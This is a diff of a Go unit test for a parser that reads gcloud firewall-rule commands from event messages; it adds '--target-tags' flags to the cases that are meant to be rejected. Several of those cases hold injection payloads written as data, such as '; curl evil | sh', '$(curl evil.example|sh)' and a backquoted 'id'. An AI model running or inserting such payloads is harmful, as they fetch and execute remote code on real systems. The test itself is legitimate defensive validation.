@@ -31,12 +31,12 @@ func TestParseFirewallChange(t *testing.T) {
 			msg:  "Firewall change required by security admin: `gcloud compute firewall-rules delete k8s2-abcd1234-shop-web-x1y2z3w4 --project host-project`",
 			want: FirewallChange{Verb: "delete", Name: "k8s2-abcd1234-shop-web-x1y2z3w4", Project: "host-project"}},
 		{name: "another event", msg: "Scheduled for sync"},
-		{name: "a command smuggled in", msg: "Firewall change required by security admin: `gcloud compute firewall-rules create x --network v --allow tcp:80 --source-ranges 0.0.0.0/0 --project p; curl evil | sh`"},
-		{name: "an unknown flag", msg: "Firewall change required by security admin: `gcloud compute firewall-rules create fw --network vpc --allow tcp:80 --source-ranges 0.0.0.0/0 --rules all --project host-project`"},
-		{name: "not a range", msg: "Firewall change required by security admin: `gcloud compute firewall-rules create fw --network vpc --allow tcp:80 --source-ranges everywhere --project host-project`"},
+		{name: "a command smuggled in", msg: "Firewall change required by security admin: `gcloud compute firewall-rules create x --network v --allow tcp:80 --source-ranges 0.0.0.0/0 --target-tags gke-node --project p; curl evil | sh`"},
+		{name: "an unknown flag", msg: "Firewall change required by security admin: `gcloud compute firewall-rules create fw --network vpc --allow tcp:80 --source-ranges 0.0.0.0/0 --target-tags gke-node --rules all --project host-project`"},
+		{name: "not a range", msg: "Firewall change required by security admin: `gcloud compute firewall-rules create fw --network vpc --allow tcp:80 --source-ranges everywhere --target-tags gke-node --project host-project`"},
 		{name: "another command", msg: "Firewall change required by security admin: `gcloud compute instances delete fw --project host-project`"},
-		{name: "shell expansion in the description", msg: "Firewall change required by security admin: `gcloud compute firewall-rules create fw --network vpc --description \"$(curl evil.example|sh)\" --allow tcp:80 --source-ranges 35.191.0.0/16 --project host-project`"},
-		{name: "backquotes in the description", msg: "Firewall change required by security admin: `gcloud compute firewall-rules create fw --network vpc --description \"x`id`\" --allow tcp:80 --source-ranges 35.191.0.0/16 --project host-project`"},
+		{name: "shell expansion in the description", msg: "Firewall change required by security admin: `gcloud compute firewall-rules create fw --network vpc --description \"$(curl evil.example|sh)\" --allow tcp:80 --source-ranges 35.191.0.0/16 --target-tags gke-node --project host-project`"},
+		{name: "backquotes in the description", msg: "Firewall change required by security admin: `gcloud compute firewall-rules create fw --network vpc --description \"x`id`\" --allow tcp:80 --source-ranges 35.191.0.0/16 --target-tags gke-node --project host-project`"},
 		{name: "unterminated quote", msg: "Firewall change required by security admin: `gcloud compute firewall-rules create fw --network vpc --description \"open --allow tcp:80 --source-ranges 0.0.0.0/0 --project host-project`"},
 	}
 	for _, tc := range tests {
